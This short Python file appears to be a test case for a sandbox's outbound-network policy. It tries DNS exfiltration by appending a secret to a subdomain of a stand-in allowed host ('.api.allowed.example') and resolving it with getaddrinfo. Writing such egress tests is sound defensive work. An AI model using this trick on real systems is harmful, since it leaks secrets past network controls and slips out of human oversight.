# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: a name below an allowed one, which carries data, is looked up
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".api.allowed.example", 443)
